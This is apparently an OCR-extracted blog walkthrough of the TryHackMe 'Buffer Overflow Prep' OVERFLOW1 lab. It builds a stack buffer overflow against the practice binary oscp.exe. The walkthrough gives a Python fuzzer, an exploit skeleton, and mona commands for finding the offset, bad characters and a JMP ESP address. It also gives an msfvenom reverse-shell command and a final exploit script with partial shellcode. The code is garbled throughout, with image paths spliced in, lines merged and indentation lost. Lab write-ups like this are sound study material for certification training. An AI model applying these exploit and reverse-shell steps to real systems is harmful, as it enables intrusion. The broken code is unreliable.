Buffer Overflow Prep for OSCP-TryHackMe

(Room-OVERFLOW-1) Run our Immunity Debugger as Administrator and open the oscp.exe

Immunity Debugger — open oscp.exe

Click the red play button or we can go to Debug > Run. To check we can NC to target machine with port 1337.

nc <IP> 1337

Netcat to port 1337

Let’s configure our mona and set it to current directory.

!mona config -set workingfolder c:\\mona\\%p


The following Python script can be modified and used to fuzz remote entry points to an application. It will send increasingly long buffer strings in the hope that one eventually crashes theapplication.

#!/usr/bin/env python3

import socket, time, sys


port = 1337
timeout = 5
prefix = "OVERFLOW1 "

string = prefix + "A" * 100while True:
with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
s.connect((ip, port))
print("Fuzzing with {} bytes".format(len(string) - len(prefix)))
s.send(bytes(string, "latin-1"))
print("Fuzzing crashed at {} bytes".format(len(string) - len(prefix)))
string += 100 * "A"

Let’s try to run fuzzer.py (get from the room) and see the results. Just check whether the IP inside the script is correct and make sure to run again the oscp.exe in Immunity Debugger before running the script.

Check that the EIP register has been overwritten by A’s (\x41). Make a note of any other registers that have either been overwritten, or are pointing to space in memory which has been overwritten.

If you can see it stop at 2000 bytes which means the offsetwould be in the range of 1900 to 2000 bytes.

Crash Replication & Controlling EIP

The following skeleton exploit code can be used for the rest of the buffer overflow exploit:

import socketip = ""
port = 21
prefix = "" #this contains the command eg: OVERFLOW2 and a space at end
offset = 0
overflow = "A" * offset
retn = ""
padding = ""
payload = ""
postfix = ""
buffer = prefix + overflow + retn + padding + payload + postfixs = socket.socket(socket.AF_INET, socket.SOCK_STREAM)try:
s.connect((ip, port))
print("Sending evil buffer...")
s.send(buffer + "\\r\\n")
print("Could not connect.")

Using the buffer length which caused the crash, generate aunique buffer so we can determine the offset in the pattern which overwrites the EIP register, and the offset in the pattern to which other registers point.

Always Create a pattern that is 400 bytes larger than the crash buffer( 2400 in our case ) so that we can determine whether our shellcode can fit immediately. If the larger buffer doesn’t crash the application, use a pattern equal to the crash buffer length and slowly add more to the buffer to find space.

$ /usr/share/metasploit-framework/tools/exploit/pattern_create.rb -l 2400

This creates the Payload…Now copy the payload and put it into the payload variable in exploit.py and try to run it. Also **the prefix variable will contain the command of the binary file followed by a space(eg: OVERFLOW2 )**The script should crash the oscp.exe server again. Try running the following mona command:

!mona findmsp -distance 2400

So look for the line said EIP contains normal pattern :SOMETHING (offset XXXX). So set our offset to the offset we found in the offset variable and set the retn variable to BBBB. Also remove the previous payload and keep it blank.The script should look like this.

this is the Updated exploit.py script

Let’s run it again.

The EIP Register has been Overwritten

As we can see the EIP Register is Overwritten with BBBB or 42424242. So far everything went well. Now it’s time to look for those bad characters Use this mona command:

!mona bytearray -b "\\x00"

the location of the bytearray.bin file that is generated.

Now we need to generate a string of bad chars that is identical to the bytearray. Use the python script provided inside the room or you can use mine which I modified a little bit for the next step.

from __future__ import print_functionlistRem = "".split("\\\\x")
for x in range(1, 256):
if "{:02x}".format(x) not in listRem:
print("\\\\x" + "{:02x}".format(x), end='')So the output just updates it in the payload variable and it will look like this.Updated exploit.py

Run the script and take note of the address to which the ESP register points.

ESP Register

Use it in the following mona command

!mona compare -f C:\\mona\\oscp\\bytearray.bin -a 0124FA18

Possible bad chars

So we found a list of possible bad chars 07 08 2e 2f a0 a1

Not all of these might be bad chars! Sometimes bad chars cause the next byte to get corrupted as well, or even affect the rest of the string. And after try and error, the sequence is like this.Green Box means correct bad chars

We got the bad chars already so let’s generate a new bytearray in mona with updated bad chars we found.

!mona bytearray -b "\\x00\\x07\\x2e\\xa0"

Also, update the payload variable with a new generated bad chars using my modified script like this

from __future__ import print_functionlistRem = "\\\\x07\\\\x2e\\\\xa0".split("\\\\x")
for x in range(1, 256):
if "{:02x}".format(x) not in listRem:
print("\\\\x" + "{:02x}".format(x), end='')

So let’s try to run it again and repeat the same process check ESP Register and use the mona commands and we will get this result.

Mona Commands

Repeat the bad char comparison until the results status returns “Unmodified”. Thisindicates that no more badchars exist.

Finding the Jump Point

Let’s find the jump point using the mona command again:

!mona jmp -r esp -cpb  "\\x00\\x07\\x2e\\xa0"

Choose the one that has many False and for this case, I choose the top one.

Find Jump PointUpdate our retn variable with the new address and must be written backward (since the system is little-endian).


Time to create our msfvenom payload and update it in payload :)

msfvenom -p windows/shell_reverse_tcp LHOST=<IP> LPORT=<PORT> -b '\\x00\\x07\\x2e\\xa0' EXITFUNC=thread -f python -v payload**NOTE: replace file type(-f) to c in case python doesnt work!!!**

Also, don’t forget to add some padding.

padding = "\\x90" * 16

The final script should look like this.ip = "IP"
port = 1337prefix = "OVERFLOW1 "
offset = 1978
overflow = "A" * offset
retn = "\\xaf\\x11\\x50\\x62"
padding = "\\x90" * 16
payload = b""
payload += b"\\xd9\\xcd\\xd9\\x74\\x24\\xf4\\x5d\\x29\\xc9\\xb1\\x52\\xba"
postfix =""buffer = prefix + overflow + retn + padding + payload + postfix

Give it a try! Overflow #1 is done :)

Finally we Got a shell !

For practice, try out other rooms on TryHackMe likeBrainstorm,Buffer Overflow Prep,Brainpan1,Gatekeeper. There are executables vulnerable to buffer overflow such as Vulnserver, WarFTP and SL Mail which you can download and use for further practice — ZEUS



Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS Appstore
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store


I am a Penetration Tester, Currently pursuing OSCP. Skilled in Network Pen-testing and DevelopingHacking Tools using Python.IShare my Knowledge on YouTube